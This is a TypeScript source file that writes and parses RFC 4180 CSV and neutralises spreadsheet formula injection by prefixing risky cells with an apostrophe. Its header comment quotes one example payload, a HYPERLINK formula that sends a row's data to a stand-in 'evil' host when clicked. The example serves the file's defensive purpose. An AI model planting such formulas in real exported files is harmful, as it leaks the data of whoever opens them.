/**
 * The one CSV writer for files the platform hands out (RFC 4180: comma, CRLF, quotes doubled). Staff open these
 * files in Excel or WPS, which run a cell that starts with = + - @ (or a tab / CR before one) as a formula: a
 * holder name of `=HYPERLINK("http://evil/?"&A1)` would send the row away on a click (OWASP CSV injection;
 * ASVS 5.0 1.2.10). Such text gets a leading apostrophe, which spreadsheets show as text. Numbers pass as they are.
 */
export type CsvCell = string | number | null | undefined;

const FORMULA_START = /^[=+\-@\t\r\0]/;

export function csvField(cell: CsvCell): string {
  if (cell === null || cell === undefined) return '';
  if (typeof cell === 'number') return String(cell);
  const text = FORMULA_START.test(cell) ? `'${cell}` : cell;
  return /[",\r\n]/.test(text) || text !== cell ? `"${text.replace(/"/g, '""')}"` : text;
}

export function csvLine(cells: readonly CsvCell[]): string {
  return cells.map(csvField).join(',');
}

/** The whole file: a UTF-8 byte-order mark (Excel reads the file as GBK without it), lines ending in CRLF. */
export function csvDocument(rows: readonly (readonly CsvCell[])[]): string {
  return `\ufeff${rows.map(csvLine).join('\r\n')}\r\n`;
}

/** Splits CSV text into records of fields, each with the line it starts on; quotes may span lines. */
export function csvRecords(text: string): { line: number; fields: string[]; unterminated: boolean }[] {
  const out: { line: number; fields: string[]; unterminated: boolean }[] = [];
  let fields: string[] = [];
  let field = '';
  let quoted = false;
  let line = 1;
  let start = 1;
  let hasContent = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else {
        if (c === '\n') line++;
        field += c;
      }
      continue;
    }
    if (c === '"' && field === '') {
      quoted = true;
      hasContent = true;
    } else if (c === ',') {
      fields.push(field);
      field = '';
      hasContent = true;
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      if (hasContent || field !== '') out.push({ line: start, fields: [...fields, field], unterminated: false });
      fields = [];
      field = '';
      hasContent = false;
      line++;
      start = line;
    } else {
      field += c;
      hasContent = true;
    }
  }
  if (hasContent || field !== '' || quoted) out.push({ line: start, fields: [...fields, field], unterminated: quoted });
  return out;
}
